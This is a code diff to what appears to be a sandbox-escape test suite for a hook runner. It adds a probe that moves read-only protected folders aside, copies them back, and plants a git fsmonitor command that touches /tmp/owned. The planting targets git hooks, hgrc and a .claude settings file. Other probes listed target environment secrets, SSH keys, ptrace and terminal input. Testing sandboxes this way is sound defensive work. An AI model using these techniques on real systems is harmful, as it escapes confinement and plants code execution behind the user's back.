@@ -18,6 +18,7 @@ import ctypes
 import errno
 import json
 import os
+import shutil
 import signal
 import socket
 import sys
@@ -199,6 +200,23 @@ def git_hooks(settings: dict) -> str:
     return f"OPEN: {written}" if written else "blocked: .git is read-only"
 
 
+def moved_away(settings: dict) -> str:
+    """Move the folder that holds a protected path away (its read-only mount goes with
+    it) and put a copy of the command's own, with a hook, in its place."""
+    moved = []
+    for folder, planted in (("vendor/lib", ".git/hooks/pre-commit"),
+                            ("vendor/hg", ".hg/hgrc"), (".claude", "settings.json")):
+        try:
+            os.rename(folder, f"{folder}.moved")
+        except OSError:
+            continue
+        shutil.copytree(f"{folder}.moved", folder, symlinks=True)
+        with open(f"{folder}/{planted}", "a") as file:
+            file.write("\n[core]\n\tfsmonitor = touch /tmp/owned\n")
+        moved.append(folder)
+    return f"OPEN: {moved}" if moved else "blocked: the folders stay where they are"
+
+
 def terminals(settings: dict) -> str:
     """Read what the user types into the terminal hookline runs in (`terminal`, a pty of
     the host), or any other; the consoles and what they show; the kernel's log."""
@@ -283,9 +301,9 @@ ATTACKS: dict[str, Callable[[dict], str]] = {
     "environ": environ_secrets, "mem": read_memory, "fds": list_fds, "ptrace": ptrace_attach,
     "pidfd_getfd": take_fd, "mptcp": mptcp, "tcp": tcp, "udp": udp,
     "listen_unbound": listen_unbound, "netlink": netlink, "metadata": metadata,
-    "git": git_hooks, "terminals": terminals, "ssh_key": ssh_key, "engine": container_engine,
-    "privileges": privileges,
-    "kernel": kernel_surface, "shared_memory": shared_memory,
+    "git": git_hooks, "moved_away": moved_away, "terminals": terminals, "ssh_key": ssh_key,
+    "engine": container_engine, "privileges": privileges, "kernel": kernel_surface,
+    "shared_memory": shared_memory,
     "kill": kill_hookline,
 }
 
